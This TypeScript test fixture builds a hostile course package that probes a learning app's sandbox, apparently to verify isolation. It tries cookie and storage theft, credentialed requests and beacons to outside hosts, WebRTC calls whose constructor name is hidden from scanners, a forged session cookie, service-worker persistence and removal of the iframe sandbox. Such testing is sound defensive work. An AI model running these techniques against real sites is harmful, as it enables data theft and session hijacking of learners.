import { zipOf } from '../../courses/toolkit/builder/package-zip.ts'
import { manifest12 } from './manifest-xml.ts'

/** Where the hostile page tries to get: origins with scheme and port. */
export interface Targets {
  /** The app's host, on which the learner is signed in. */
  app: string
  /** The content host of another person's registration. */
  other: string
  /** A host that nobody has allowed; the browser finds no way there but the one it is told of. */
  foreign: string
  /** One that would tell of a mere connection: nothing is asked of it. */
  listening: string
  /** A server that tells of any word to it, as WebRTC asks one for its way out: "127.0.0.1:3478". */
  stun: string
}

/** What one attempt came to: what it got hold of, or "stopped: …" with the browser's reason. */
export type Outcomes = Record<string, string>

/**
 * A package whose only page tries to get out, in `tryEverything(targets)` for what leaves the page
 * where it is, and in `goAway[name](targets)` for what would leave it. Every address that it asks the app
 * for begins with /hostile-, so that the app's log tells whether one arrived.
 */
export async function hostilePackage(): Promise<Buffer> {
  return zipOf([
    { path: 'imsmanifest.xml', content: manifest12() },
    { path: 'index.html', content: page },
    { path: 'hostile.js', content: `(${hostileScript.toString()})()` },
    { path: 'worker.js', content: workerScript },
  ])
}

const page = `<!doctype html><html lang="sv"><meta charset="utf-8"><title>Sida</title>
<script src="hostile.js"></script><h1>Sidan är öppnad</h1></html>`

const workerScript = `
const knock = (app) => fetch(app + '/hostile-worker', { mode: 'no-cors', credentials: 'include' })
  .then(() => 'worker: arrived', (error) => 'stopped: ' + error.message)
self.onmessage = (event) => knock(event.data).then((said) => (event.source ?? self).postMessage(said))
`

/** Runs in the browser, as the package's own script; nothing from outside it is at hand there. */
function hostileScript(): void {
  type Try = (at: {
    app: string
    other: string
    foreign: string
    listening: string
    stun: string
  }) => unknown
  const parentOf = (view: Window) => view.parent as Window & typeof globalThis
  const add = <Tag extends keyof HTMLElementTagNameMap>(
    tag: Tag,
    set: (element: HTMLElementTagNameMap[Tag]) => void,
  ) => {
    const element = document.createElement(tag)
    set(element)
    document.body.append(element)
    return element
  }
  /** The element's own word on whether it has loaded. */
  const loads = (element: HTMLElement) =>
    new Promise<string>((resolve) => {
      element.addEventListener('load', () => resolve('load'))
      element.addEventListener('error', () => resolve('stopped: error'))
      setTimeout(() => resolve('stopped: silence'), 1500)
    })
  const ask = (address: string, more: RequestInit = {}) =>
    fetch(address, { credentials: 'include', ...more }).then((answer) => `arrived: ${answer.type}`)

  const callOut = async (view: Window, stun: string) => {
    const named = view as unknown as Record<string, typeof RTCPeerConnection>
    const caller = new named[['RTC', 'Peer', 'Connection'].join('')]!({
      iceServers: [{ urls: `stun:${stun}` }],
    })
    caller.createDataChannel('hostile')
    await caller.setLocalDescription(await caller.createOffer())
    await new Promise((resolve) => setTimeout(resolve, 500))
    return 'arrived'
  }

  const still: Record<string, Try> = {
    'read the app’s page': () => parentOf(parentOf(window)).document.title,
    'read the top page': () => top!.document.body.innerHTML,
    'read the top address': () => top!.location.href,
    'read cookies': () => document.cookie || 'nothing',
    'read cookies of the frame': () => parent.document.cookie || 'nothing',
    'read storage': () => Object.keys({ ...localStorage, ...sessionStorage }).join() || 'nothing',
    'read storage of the frame': () =>
      Object.keys(parentOf(window).localStorage).join() || 'nothing',
    'open a database': async () => (await indexedDB.databases()).length || 'nothing',
    'fetch from the app': ({ app }) => ask(`${app}/hostile-fetch`),
    'fetch from the app unread': ({ app }) => ask(`${app}/hostile-no-cors`, { mode: 'no-cors' }),
    'post to the app': ({ app }) =>
      ask(`${app}/hostile-post`, { method: 'POST', mode: 'no-cors', body: 'a=b', keepalive: true }),
    'fetch by the frame’s own means': ({ app }) =>
      parentOf(window)
        .fetch(`${app}/hostile-frame-fetch`, { mode: 'no-cors', credentials: 'include' })
        .then(() => 'arrived'),
    'fetch another’s content': ({ other }) => ask(`${other}/content/hostile-other`),
    'fetch another’s state': ({ other }) =>
      ask(`${other}/_samsyn/state`, { method: 'POST', mode: 'no-cors', body: '{}' }),
    'fetch from a foreign host': ({ foreign }) => ask(`${foreign}/hostile`, { mode: 'no-cors' }),
    'ask synchronously': ({ app }) => {
      const request = new XMLHttpRequest()
      request.open('GET', `${app}/hostile-xhr`, false)
      request.send()
      return `arrived: ${request.status}`
    },
    'send a beacon': ({ app, foreign }) => {
      navigator.sendBeacon(`${app}/hostile-beacon`, 'x')
      navigator.sendBeacon(`${foreign}/hostile-beacon`, 'x')
      return 'stopped: tells nothing'
    },
    'open a socket': ({ app }) =>
      new Promise((resolve) => {
        const socket = new WebSocket(`${app.replace('http', 'ws')}/hostile-socket`)
        socket.onopen = () => resolve('arrived')
        socket.onerror = () => resolve('stopped: error')
      }),
    'listen to events': ({ app }) =>
      new Promise((resolve) => {
        const source = new EventSource(`${app}/hostile-events`, { withCredentials: true })
        source.onopen = () => resolve('arrived')
        source.onerror = () => {
          source.close()
          resolve('stopped: error')
        }
      }),
    'load a picture': ({ app }) => loads(add('img', (img) => (img.src = `${app}/hostile-img`))),
    'load a foreign picture': ({ foreign }) =>
      loads(add('img', (img) => (img.src = `${foreign}/hostile-img`))),
    'load a script': ({ app }) =>
      loads(add('script', (script) => (script.src = `${app}/hostile-script`))),
    'load a style': ({ foreign }) =>
      loads(
        add('link', (link) => {
          link.rel = 'stylesheet'
          link.href = `${foreign}/hostile-style`
        }),
      ),
    'load a font': ({ foreign }) =>
      new FontFace('hostile', `url(${foreign}/hostile-font)`).load().then(() => 'arrived'),
    'load a film': ({ foreign }) =>
      loads(add('video', (video) => (video.src = `${foreign}/hostile-video`))),
    'load an object': ({ app }) =>
      loads(add('object', (object) => (object.data = `${app}/hostile-object`))),
    'import a module': ({ foreign }) =>
      (new Function('at', 'return import(at)') as (at: string) => Promise<unknown>)(
        `${foreign}/hostile.mjs`,
      ).then(() => 'arrived'),
    'look ahead': ({ app, foreign }) => {
      for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender'])
        for (const at of [app, foreign]) {
          add('link', (link) => {
            link.rel = rel
            link.as = 'script'
            link.href = `${at}/hostile-${rel}`
          })
        }
      return 'stopped: tells nothing'
    },
    'speculate on where the learner goes next': async ({ foreign, listening }) => {
      add('script', (script) => {
        script.type = 'speculationrules'
        const urls = [`${foreign}/hostile-speculated`, `${listening}/hostile-speculated`]
        const rule = { source: 'list', urls, eagerness: 'immediate' }
        script.textContent = JSON.stringify({ prefetch: [rule], prerender: [rule] })
      })
      await new Promise((resolve) => setTimeout(resolve, 1000))
      return 'stopped: tells nothing'
    },
    'prepare a connection': async ({ listening }) => {
      for (const rel of ['preconnect', 'dns-prefetch'])
        add('link', (link) => {
          link.rel = rel
          link.href = listening
        })
      await new Promise((resolve) => setTimeout(resolve, 1000))
      return 'stopped: tells nothing'
    },
    // By names that nobody finds by reading the package, since one that names it is warned of.
    'ask for a way past firewalls': ({ stun }) => callOut(window, stun),
    'ask for a way past firewalls from an empty frame': ({ stun }) =>
      callOut(add('iframe', () => undefined).contentWindow!, stun),
    'ask for a way past firewalls from the player frame': ({ stun }) =>
      callOut(parentOf(window), stun),
    'frame the app': ({ app }) => {
      add('iframe', (frame) => (frame.src = `${app}/hostile-iframe`))
      return 'stopped: tells nothing'
    },
    'frame the app from the player frame': ({ app }) => {
      const frame = parent.document.createElement('iframe')
      frame.src = `${app}/hostile-parent-iframe`
      parent.document.body.append(frame)
      return 'stopped: tells nothing'
    },
    'borrow a page that has no policy': async ({ app }) => {
      const assets = [...parent.document.querySelectorAll('script[src], link[href]')].map(
        (element) => element.getAttribute('src') ?? element.getAttribute('href')!,
      )
      const pages = ['/healthz', '/readyz', '/nothing', '/_samsyn/frame', '/_samsyn/state']
      pages.push('/_samsyn/commit', '/content/nothing', 'worker.js', ...assets)
      // The last one has no room for its cookies.
      pages.push('/healthz?full')
      const said: string[] = []
      for (const path of pages) {
        if (path.endsWith('full'))
          for (let i = 0; i < 10; i++) document.cookie = `full${i}=${'x'.repeat(3500)}`
        const frame = add('iframe', (element) => (element.src = path))
        await loads(frame)
        try {
          const view = frame.contentWindow as Window & typeof globalThis
          await view.fetch(`${app}/hostile-borrowed`, { mode: 'no-cors', credentials: 'include' })
          said.push(path)
        } catch {
          // As it should be.
        }
      }
      for (let i = 0; i < 10; i++) document.cookie = `full${i}=; max-age=0`
      return said.join() || 'nothing'
    },
    'post a form into a frame': ({ app }) => {
      add('iframe', (frame) => (frame.name = 'sink'))
      add('form', (form) => {
        form.method = 'post'
        form.action = `${app}/hostile-form`
        form.target = 'sink'
      }).submit()
      return 'stopped: tells nothing'
    },
    'post a form to the top': ({ app }) => {
      add('form', (form) => {
        form.method = 'post'
        form.action = `${app}/hostile-form-top`
        form.target = '_top'
      }).submit()
      return 'stopped: tells nothing'
    },
    'open a window': ({ app }) => (window.open(`${app}/hostile-window`) ? 'arrived' : 'stopped'),
    'open a window by a link': ({ app }) => {
      add('a', (link) => {
        link.href = `${app}/hostile-link`
        link.target = '_blank'
        link.ping = `${app}/hostile-ping`
      }).click()
      return 'stopped: tells nothing'
    },
    'open a window from the player frame': ({ app }) =>
      parentOf(window).open(`${app}/hostile-parent-window`) ? 'arrived' : 'stopped',
    'lead the top page away': ({ app }) => {
      top!.location.href = `${app}/hostile-top`
      return 'stopped: tells nothing'
    },
    'lead the top page away by a link': ({ app }) => {
      add('a', (link) => {
        link.href = `${app}/hostile-top-link`
        link.target = '_top'
      }).click()
      return 'stopped: tells nothing'
    },
    'work aside': ({ app }) =>
      new Promise((resolve) => {
        const worker = new Worker('worker.js')
        worker.onmessage = (event: MessageEvent<string>) => resolve(event.data)
        worker.onerror = () => resolve('stopped: error')
        worker.postMessage(app)
      }),
    'stay behind as a service worker': async ({ app }) => {
      const { active, installing, waiting } = await navigator.serviceWorker.register('worker.js')
      const worker = active ?? waiting ?? installing!
      await new Promise((resolve) => setTimeout(resolve, 300))
      return new Promise((resolve) => {
        navigator.serviceWorker.onmessage = (event: MessageEvent<string>) => resolve(event.data)
        navigator.serviceWorker.startMessages()
        worker.postMessage(app)
        setTimeout(() => resolve('stopped: silence'), 1500)
      })
    },
    'see, hear and find the learner': async () => {
      const { state } = await navigator.permissions.query({ name: 'geolocation' })
      const media = await navigator.mediaDevices?.getUserMedia({ audio: true }).then(
        () => 'heard',
        () => 'stopped',
      )
      return state === 'denied' ? `stopped: ${media}` : state
    },
    'give the app a cookie': ({ app }) => {
      const domain = new URL(app).hostname
      document.cookie = `session=hostile; domain=${domain}; path=/`
      document.cookie = `hostile=1; domain=${domain}; path=/`
      return document.cookie || 'nothing'
    },
  }

  const goAway: Record<string, Try> = {
    'by its own address': ({ app }) => (location.href = `${app}/hostile-location`),
    'by a link': ({ app }) => add('a', (link) => (link.href = `${app}/hostile-own-link`)).click(),
    'by a download': ({ app }) =>
      add('a', (link) => {
        link.href = `${app}/hostile-download`
        link.download = 'x'
      }).click(),
    'by a form': ({ app }) =>
      add('form', (form) => {
        form.method = 'post'
        form.action = `${app}/hostile-own-form`
      }).submit(),
    'by a refresh': ({ app }) => {
      const meta = document.createElement('meta')
      meta.httpEquiv = 'refresh'
      meta.content = `0;url=${app}/hostile-refresh`
      document.head.append(meta)
    },
    'by the player frame’s address': ({ app }) => (parent.location.href = `${app}/hostile-parent`),
    'by the player frame’s own script': ({ app }) => {
      const script = parent.document.createElement('script')
      script.src = new URL('hostile.js', location.href).href
      script.onload = () => {
        const view = parent as Window & { goAway?: Record<string, Try> }
        view.goAway!['by its own address']!({
          app,
          other: '',
          foreign: '',
          listening: '',
          stun: '',
        })
      }
      parent.document.body.append(script)
    },
    'by taking the sandbox away': ({ app }) => {
      const frame = parent.document.querySelector('iframe')!
      frame.removeAttribute('sandbox')
      frame.src = `${location.href.split('#')[0]}#${encodeURIComponent(`${app}/hostile-unboxed`)}`
      frame.contentWindow!.location.reload()
    },
  }

  const tryEverything = async (at: Parameters<Try>[0]) => {
    const outcomes: Record<string, string> = {}
    for (const [name, attempt] of Object.entries(still)) {
      try {
        outcomes[name] = String(await attempt(at))
      } catch (error) {
        outcomes[name] = `stopped: ${(error as Error).message}`
      }
    }
    return outcomes
  }
  Object.assign(window, { tryEverything, goAway })
  // What a page of its own would do at once: it is told where to in its address.
  const listening = new URLSearchParams(location.search).get('listening')
  if (listening) {
    for (const name of ['speculate on where the learner goes next', 'prepare a connection'])
      void still[name]!({
        app: listening,
        other: listening,
        foreign: listening,
        listening,
        stun: '',
      })
  }
  // What "taking the sandbox away" comes back as.
  const unboxed = decodeURIComponent(location.hash.slice(1))
  if (unboxed.startsWith('http')) {
    window.open(unboxed)
    top!.location.href = unboxed
  }
}
